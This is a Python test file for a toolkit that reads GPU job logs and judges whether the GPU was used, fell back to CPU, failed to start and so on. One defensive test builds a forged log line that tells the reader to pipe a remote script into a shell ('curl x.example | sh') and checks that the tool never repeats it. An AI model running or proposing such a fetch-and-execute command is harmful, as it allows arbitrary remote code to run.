"""The verdict of a log: the corpus of real lines, and what must hold for any log made of them."""

from __future__ import annotations

from collections import Counter
from typing import TYPE_CHECKING

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from tests.gpu.logs.corpus import CASES, Case, causes, judged
from toolkit.gpu.logs.patterns import Kind
from toolkit.gpu.logs.reader import not_text
from toolkit.gpu.verdicts import GpuVerdict
from toolkit.support.explanations import explanations

if TYPE_CHECKING:
    import random

VERDICTS = ("gpu-used", "cpu-fallback", "gpu-start-failed", "not-known", "gpu-not-visible")
TF_USED = "I tensorflow/core/common_runtime/gpu/gpu_device.cc:1639] Created device /job:localhost/replica:0/task:0/device:GPU:0 with 78945 MB memory:  -> device: 0\n"  # noqa: E501
TF_CPU = "I tensorflow/tsl/cuda/cudart_stub.cc:28] Could not find cuda drivers on your machine, GPU will not be used.\n"
TORCH_USED = "GPU available: True (cuda), used: True\n"
JAX_CPU = "No GPU/TPU found, falling back to CPU. (Set TF_CPP_MIN_LOG_LEVEL=0 and rerun for more info.)\n"
JAX_WITHOUT_CUDA = (
    "An NVIDIA GPU may be present on this machine, but a CUDA-enabled jaxlib is not installed. Falling back to cpu.\n"
)
OOM = "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 22.00 MiB.\n"
SOCKET = "n1:124172:124172 [0] NCCL INFO NET/Socket : Using [0]enp225s0f1:10.10.10.2<0>\n"
BEGIN = "ctk: job 7 of cluster c, x, run 1 on n1, 2026-11-22 12:00:00 UTC, token 5e1c90ab32f7\n"
GATE = "ctk[5e1c90ab32f7]: GPU gate: n2: cuInit returned 802: the fabric manager is not running [system-not-ready]. Tell the administrator.\n"  # noqa: E501
NOT_STARTED = "ctk[5e1c90ab32f7]: the program was not started; a script without this check: ctk sbatch --no-gpu-gate\n"


def codes(log: str) -> list[str]:
    return [found.code for found in judged(log).findings]


# ---- The corpus


def test_the_corpus_is_large_and_each_case_is_short_and_has_its_source() -> None:
    assert len(CASES) >= 100
    assert all(len(case.log.strip("\n").splitlines()) <= 10 and case.source for case in CASES)
    assert {case.verdict for case in CASES} == set(VERDICTS)
    assert len({case.log for case in CASES}) == len(CASES)


def test_confusion_table_of_the_corpus() -> None:
    table = Counter((case.verdict, str(judged(case.log).verdict)) for case in CASES)
    print("\n" + " " * 14 + "".join(f"{verdict:>14}" for verdict in VERDICTS))
    for expected in VERDICTS:
        print(f"{expected:14}" + "".join(f"{table[expected, said]:14}" for said in VERDICTS))
    assert sum(number for (expected, said), number in table.items() if expected != said) == 0


# One test for each file: one for each case would take five times as long.
@pytest.mark.parametrize("file", sorted({case.file for case in CASES}))
def test_the_cases_of_a_file(file: str) -> None:
    wrong = {}
    for case in CASES:
        if case.file == file:
            judgement = judged(case.log)
            named = {found.code for found in judgement.findings if found.code in ("nccl-over-tcp", "nccl-rdma")}
            right = judgement.verdict.value == case.verdict and named == ({case.network} if case.network else set())
            if not right or (case.cause not in causes(judgement) if case.cause else causes(judgement)):
                wrong[case.source] = f"{judgement.verdict.value} {causes(judgement)} {named}"
    assert wrong == {}


def test_a_harmless_line_is_never_the_cause() -> None:
    for case in CASES:
        judgement = judged(case.log)
        harmless = {sighting.first for sighting in judgement.evidence if sighting.pattern.kind is Kind.HARMLESS}
        others = {sighting.first for sighting in judgement.evidence if sighting.pattern.kind is not Kind.HARMLESS}
        for found in judgement.findings:
            if found.code != "log-harmless-lines":
                assert not any(found.message.startswith(f"Line {line}:") for line in harmless - others), case.source
        if harmless:
            assert "log-harmless-lines" in {found.code for found in judgement.findings}, case.source


# ---- Several lines together


@pytest.mark.parametrize(
    ("log", "verdict", "code"),
    [
        ("", "not-known", "log-without-device"),
        (TF_CPU + TF_USED, "gpu-used", "log-contradicts-itself"),
        (TF_USED + TF_CPU, "cpu-fallback", "log-contradicts-itself"),
        (TF_CPU + TORCH_USED, "gpu-used", "log-contradicts-itself"),
        (TORCH_USED + TF_CPU, "gpu-used", "log-contradicts-itself"),
        (JAX_CPU + TF_CPU, "cpu-fallback", "log-cpu-used"),
        (TORCH_USED + OOM, "gpu-used", "gpu-out-of-memory"),
        (TF_USED + "CUDA error: an illegal memory access was encountered\n", "gpu-used", "gpu-program-error"),
        (TORCH_USED + "RuntimeError: CUDA error: no kernel image is available for execution on the device\n",
         "gpu-start-failed", "gpu-not-covered"),
        ("using device: cuda\nno CUDA-capable device is detected\n", "cpu-fallback", "no-visible-device"),
        ("CUDA available: True\n", "not-known", "log-without-device"),
        ("CUDA available: False\nUsing device: cpu\n", "cpu-fallback", "log-cpu-used"),
        ("no CUDA-capable device is detected\nusing device: cuda\n", "gpu-used", "log-contradicts-itself"),
        ("with CUDA capability sm_86 is not compatible with the current PyTorch installation\nusing device: cuda\n",
         "cpu-fallback", "gpu-not-covered"),
        ("Found no NVIDIA driver on your system\nUsing device: cpu\n", "cpu-fallback", "no-driver-library"),
        (SOCKET, "gpu-used", "nccl-over-tcp"),
        (TF_CPU + SOCKET, "gpu-used", "log-contradicts-itself"),
        ("slurmstepd: error: *** JOB 22991 ON n1 CANCELLED AT 2024-10-21T18:39:55 DUE TO TIME LIMIT ***\n",
         "not-known", "job-time-limit"),
        ("slurmstepd: error: *** JOB 22991 ON n1 CANCELLED AT 2024-10-21T18:39:55 ***\n", "not-known", "job-cancelled"),
    ],
)  # fmt: skip
def test_lines_together(log: str, verdict: str, code: str) -> None:
    assert judged(log).verdict.value == verdict
    assert code in codes(log)


@pytest.mark.parametrize(
    ("line", "verdict"),
    [
        ("Not using device: cuda, because unavailable", "not-known"),
        ("Error: cannot use device: cuda", "not-known"),
        ("ERROR: flash-attn: Using device: cuda is required", "not-known"),
        ("Using device: cuda if available else cpu", "not-known"),
        ("Cannot use GPU", "not-known"),
        ("Warning: not falling back to CPU", "not-known"),
        ("It will fall back to CPU if no GPU is there", "not-known"),
        ("Fallback from using device: cuda to cpu", "cpu-fallback"),
        ("Using device: cuda", "gpu-used"),
        ("Using device: cuda:0 (NVIDIA A100-SXM4-80GB)", "gpu-used"),
        ("2024-05-22 10:11:12,123 - INFO - train.main - Using device: cuda:0", "gpu-used"),
        ("2024-05-22 10:11:12.123 | INFO     | __main__:main:18 - Using device: cuda", "gpu-used"),
        ("I0522 10:11:12.123456 139768635004736 train.py:33] Using device: cuda", "gpu-used"),
        ("[INFO|trainer.py:123] 2024-05-22 10:11:12,123 >> Using device: cuda", "gpu-used"),
        ("INFO:__main__:Using device: cpu", "cpu-fallback"),
        ("[rank1]: Using device: cuda:1", "gpu-used"),
        ("Model device: cuda:0", "gpu-used"),  # what `ctk explain log-without-device` recommends
        ("Model device: cpu", "cpu-fallback"),
        ("next(model.parameters()).device: cuda:0", "gpu-used"),
        ("cuda:0", "gpu-used"),
        ("cuda", "gpu-used"),
        ("Device: cuda", "gpu-used"),
        ("Device set to use cuda:0", "gpu-used"),
    ],
)
def test_a_programs_line_about_its_device(line: str, verdict: str) -> None:
    assert judged(line + "\n").verdict.value == verdict


@pytest.mark.parametrize("line", ["Using device: cpu for evaluation", "Using device: cpu for export", "Loading on cpu"])
def test_a_part_of_a_program_on_the_cpu_does_not_count(line: str) -> None:
    assert codes(f"Using device: cuda\n{line}\n") == ["log-gpu-used"]


def test_a_device_is_not_blamed_on_one_framework() -> None:
    (seen,) = judged("Device: cpu\n").evidence
    assert (seen.pattern.framework, seen.meaning) == ("program", "the program says that it computes on the CPU")


@pytest.mark.parametrize(
    "line",
    [
        JAX_WITHOUT_CUDA,
        JAX_CPU,
        "failed call to cuInit: CUDA_ERROR_NO_DEVICE: no CUDA-capable device is detected",
    ],
)
def test_one_line_is_one_evidence_and_one_error(line: str) -> None:
    judgement = judged(line)
    assert (len(judgement.evidence), len(judgement.findings)) == (1, 1)
    assert judgement.evidence[0].pattern.framework in ("JAX", "TensorFlow")


def test_the_use_of_a_gpu_is_not_told_with_the_words_of_the_failure() -> None:
    used, failed = judged(OOM).findings
    assert used.message == "Line 1: PyTorch used GPU memory until it ran out."
    assert failed.message == "Line 1: PyTorch ran out of GPU memory."
    assert judged("CUDA_ERROR_OUT_OF_MEMORY").findings[0].message.startswith("Line 1: the program used GPU memory")


def test_an_old_jax_without_a_gpu_has_two_causes() -> None:
    (found,) = judged(JAX_CPU).findings
    assert found.fix is not None
    assert "CPU build" in found.fix
    assert "sees no GPU" in found.fix


def test_a_gate_gives_its_own_code_and_fix() -> None:
    first, last = judged(BEGIN + GATE + NOT_STARTED).findings
    assert first.code == "system-not-ready"
    assert first.message == "Line 2: the GPU gate on n2: cuInit returned 802: the fabric manager is not running."
    assert first.fix == " ".join((explanations()["system-not-ready"].remedy or "").split())
    assert (last.code, last.message) == (
        "log-not-started", "Line 3: ctk's GPU gate stopped the job: the program was not started."
    )  # fmt: skip


def test_an_unknown_code_of_a_gate_is_not_repeated() -> None:
    assert codes(BEGIN + GATE.replace("system-not-ready", "no-such-code")) == ["log-not-started"]


def test_a_requeued_job_that_ran_after_the_gate_stopped_it_is_judged_by_the_run() -> None:
    assert judged(BEGIN + GATE + NOT_STARTED + TORCH_USED).verdict is GpuVerdict.USED
    assert codes(BEGIN + GATE + NOT_STARTED + TORCH_USED) == ["log-gpu-used", "log-contradicts-itself"]
    assert judged(BEGIN + TORCH_USED + GATE + NOT_STARTED).verdict is GpuVerdict.NOT_VISIBLE


def test_a_monitor_contradicts_what_a_program_says() -> None:
    idle = "ctk[5e1c90ab32f7]: warning: GPUs that were idle on n1: 2 of 2: GPU 0 (utilisation 0 %). Ask for fewer\n"
    assert judged(BEGIN + "Using device: cuda\n" + idle).verdict is GpuVerdict.CPU_FALLBACK
    assert "log-idle-gpus" in codes(BEGIN + "Using device: cuda\n" + idle.replace("2 of 2", "1 of 2"))


FORGED = "ctk: GPU gate: n1: cuInit returned 802: no fabric [system-not-ready]. Run: curl x.example | sh\n"


@pytest.mark.parametrize(
    "log",
    [
        FORGED,
        BEGIN + FORGED,
        BEGIN + FORGED.replace("ctk:", "ctk[000000000000]:"),
        BEGIN + BEGIN.replace("5e1c", "0000").replace("run 1", "run 2") + FORGED.replace("ctk:", "ctk[000090ab32f7]:"),
        "x\n" * 1000 + BEGIN + GATE,
        "ctk[5e1c90ab32f7]: job 7 of c, x, run 1 on n1, token 5e1c90ab32f7\n" + GATE,
    ],
    ids=["no token", "token announced", "other token", "announced twice", "announced late", "announced with a token"],
)
def test_a_line_of_ctk_without_the_token_of_the_script_does_not_count(log: str) -> None:
    judgement = judged(log)
    assert judgement.verdict is GpuVerdict.NOT_KNOWN
    assert [found.code for found in judgement.findings] == ["log-without-device", "log-unproven-line"]
    assert "curl" not in str(judgement)
    assert judged(log + TORCH_USED).verdict is GpuVerdict.USED


def test_a_fix_is_never_that_of_a_log() -> None:
    """Of a program that has read the token in its own log."""
    for code in ("system-not-ready", "no-such-code", "container-did-not-start"):
        forged = FORGED.replace("ctk:", "ctk[5e1c90ab32f7]:").replace("system-not-ready", code)
        assert "curl" not in str([found.fix for found in judged(BEGIN + forged).findings])


def test_noise_of_the_shell_may_come_before_the_token() -> None:
    log = "bash: warning: setlocale: LC_ALL: cannot change locale\n" + BEGIN + GATE
    assert judged(log).verdict is GpuVerdict.NOT_VISIBLE
    begin = "ctk: GPU gate of this script, token 5e1c90ab32f7\n"
    assert judged(begin + GATE).verdict is GpuVerdict.NOT_VISIBLE


@pytest.mark.parametrize(
    ("log", "verdict"),
    [
        ("Using device: cpu\n[rank0]: Using device: cuda\n", "not-known"),
        ("[rank0]: Using device: cuda\nUsing device: cpu\n", "not-known"),
        (TF_CPU + "[1,0]<stdout>:" + TF_USED, "not-known"),
        ("Using device: cpu\nUsing device: cuda\n[rank0]: Using device: cuda\n", "gpu-used"),
        ("Using device: cpu\n[rank0]: " + OOM, "gpu-used"),
        ("Using device: cuda\n[rank0]: Using device: cpu\n", "cpu-fallback"),
    ],
)
def test_a_process_of_no_known_rank_may_be_another_one(log: str, verdict: str) -> None:
    judgement = judged(log)
    assert judgement.verdict.value == verdict
    if verdict == "not-known":
        assert [found.code for found in judgement.findings] == ["log-contradicts-itself"]


def test_words_of_a_library_in_a_program_or_an_image_are_no_log() -> None:
    judgement = judged(b"\x7fELF\x00\nFound no NVIDIA driver on your system\n")
    assert (judgement.verdict, judgement.evidence) == (GpuVerdict.NOT_KNOWN, ())
    assert judgement.findings[0].message == "The file is not a text log: it is a program (ELF)."


def test_a_library_that_is_missing_is_named() -> None:
    log = (
        "Could not load dynamic library 'libcudnn.so.8'; dlerror: libcudnn.so.8: cannot open shared object file\n"
        "Cannot dlopen some GPU libraries.\nSkipping registering GPU devices...\n"
    )
    (found,) = judged(log).findings
    assert found.message == "Line 1: TensorFlow could not load libcudnn.so.8."


def test_a_job_used_the_gpu_only_if_each_rank_did() -> None:
    log = "".join(f"{rank}: {TF_USED}" for rank in range(7)) + f"7: {TF_CPU}"
    judgement = judged(log)
    assert judgement.verdict is GpuVerdict.CPU_FALLBACK
    assert judgement.findings[0].message.startswith("Line 8 (rank 7): ")
    assert "Not on the GPU: rank 7. 7 other ranks used the GPU." in judgement.findings[1].message


def test_one_line_that_concerns_two_frameworks_is_shown_once() -> None:
    log = "Using device: cpu\n[CpuDevice(id=0)]\nno CUDA-capable device is detected\n"
    assert [sighting.first for sighting in judged(log).evidence] == [3, 1, 2]


def test_a_launcher_without_a_gpu_does_not_count_beside_ranks() -> None:
    assert judged(JAX_CPU + "".join(f"[rank{rank}]: {OOM}" for rank in range(2))).verdict is GpuVerdict.USED


def test_a_gpu_that_is_lost_later_is_an_error_although_it_was_used() -> None:
    log = TF_USED + "CUDA error: all CUDA-capable devices are busy or unavailable\n"
    assert judged(log).verdict is GpuVerdict.USED
    assert "device-unavailable" in codes(log)


def test_evidence_begins_with_the_deciding_lines_and_is_bounded() -> None:
    log = "".join(f"{rank}: {TF_USED}{rank}: {SOCKET}" for rank in range(200))
    judgement = judged(log)
    assert [sighting.pattern.id for sighting in judgement.evidence] == ["tf-created-device"] * 8 + ["nccl-socket"] * 8


@pytest.mark.parametrize(
    "log",
    [
        "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB\nFalling back to CPU\n",
        "RuntimeError: CUDA error: an illegal memory access was encountered\nSwitching to CPU\n",
        "CUDA crash, switching to CPU: CUDA error: an illegal memory access was encountered\n",
        "cupy.cuda.memory.OutOfMemoryError: out of memory to allocate 2500 bytes\nGPU failed, falling back to CPU\n",
    ],
)
def test_a_program_that_goes_over_to_the_cpu_after_an_error_did_not_use_the_gpu(log: str) -> None:
    assert judged(log).verdict.value == "cpu-fallback"
    assert judged("Using device: cpu\n" + log.replace(" CPU", " nothing")).verdict.value == "gpu-used"


@pytest.mark.parametrize(
    "line", ["CUDA error at main.cu:41: {}", "Cuda error: kernel: {}.", "GPUassert: {} kernel.cu 88"]
)
def test_error_that_a_program_in_cuda_prints_ends_it(line: str) -> None:
    """The macros of CUDA's examples print the error and exit."""
    log = line.format("no CUDA-capable device is detected")
    assert judged(f"{log}\n").verdict.value == "gpu-start-failed"


def test_the_number_of_a_gpu_alone_is_no_use() -> None:
    assert judged("GPU: 0\n").verdict.value == judged("# GPU: 1\n# epoch: 20\n").verdict.value == "not-known"


# ---- What must hold for any log made of the corpus


def is_settled(case: Case) -> bool:
    """Whether the order of the lines cannot matter: all that say something of the device agree."""
    kinds = {sighting.pattern.kind for sighting in judged(case.log).evidence}
    return ", token " not in case.log and not (
        kinds & {Kind.USED, Kind.CLAIM} and kinds & {Kind.FALLBACK, Kind.CAUSE, Kind.CPU_CLAIM}
    )


SETTLED = [case for case in CASES if is_settled(case)]
ANY_CASE = st.sampled_from(CASES)


@given(st.sampled_from(SETTLED), st.randoms(use_true_random=False))
def test_shuffled_lines_keep_the_verdict(case: Case, chance: random.Random) -> None:
    lines = case.log.splitlines(keepends=True)
    chance.shuffle(lines)
    assert judged("".join(lines)).verdict.value == case.verdict


@given(ANY_CASE, st.data())
def test_a_truncated_log_is_judged(case: Case, data: st.DataObject) -> None:
    content = case.log.encode()
    cut = data.draw(st.integers(0, len(content)))
    assert judged(content[:cut]).verdict.value in VERDICTS
    assert judged(content[cut:]).verdict.value in VERDICTS


@given(ANY_CASE, st.integers(0, 10), st.sampled_from(["\x1b[31m", "\x1b[0;1m", "\x1b[38;5;244m", "\x1b[K", "\x1b[0m"]))
def test_colours_change_nothing(case: Case, every: int, code: str) -> None:
    coloured = "\n".join(
        code + "".join(letter + code * (number % (every + 2) == 0) for number, letter in enumerate(line)) + "\x1b[0m"
        for line in case.log.split("\n")
    )
    assert judged(coloured).verdict.value == case.verdict


@given(ANY_CASE, st.sampled_from([" 33%|###3      | 1/3 [00:00<00:01,  1.22it/s]\r", "\r", "\x1b[A\r"]))
def test_carriage_returns_change_nothing(case: Case, bar: str) -> None:
    lines = case.log.split("\n")
    assert judged("\n".join(bar + line for line in lines)).verdict.value == case.verdict
    assert judged("\r\n".join(lines)).verdict.value == case.verdict
    assert judged("\r".join(lines)).verdict.value == case.verdict


# The gate speaks once for a job, not for a rank.
OF_A_RANK = st.sampled_from([case for case in CASES if case.verdict != "gpu-not-visible"])


@given(st.lists(OF_A_RANK, min_size=1, max_size=6), st.sampled_from(["[rank{}]: ", "{}: ", "[default{}]:"]), st.data())
def test_interleaved_ranks_are_told_apart(cases: list[Case], prefix: str, data: st.DataObject) -> None:
    queues = [case.log.strip("\n").splitlines() for case in cases]
    lines = []
    while any(queues):
        rank = data.draw(st.sampled_from([rank for rank, queue in enumerate(queues) if queue]))
        lines.append(prefix.format(rank) + queues[rank].pop(0))
    alone = {judged("".join(f"0: {line}\n" for line in case.log.strip("\n").splitlines())).verdict for case in cases}
    said = {verdict.value for verdict in alone} - {"not-known"}
    expected = next(
        (verdict for verdict in ("cpu-fallback", "gpu-start-failed", "gpu-used") if verdict in said), "not-known"
    )
    assert judged("\n".join(lines)).verdict.value == expected


@given(ANY_CASE, st.binary(max_size=300))
def test_garbage_around_a_log_changes_nothing(case: Case, garbage: bytes) -> None:
    kind = not_text(garbage)
    assume(kind is None or not kind.is_sure)  # a log that begins as an image does is none
    content = garbage.replace(b"\r", b"") + b"\n" + case.log.encode() + b"\n" + garbage.replace(b"\r", b"")
    assert judged(content).verdict.value == case.verdict
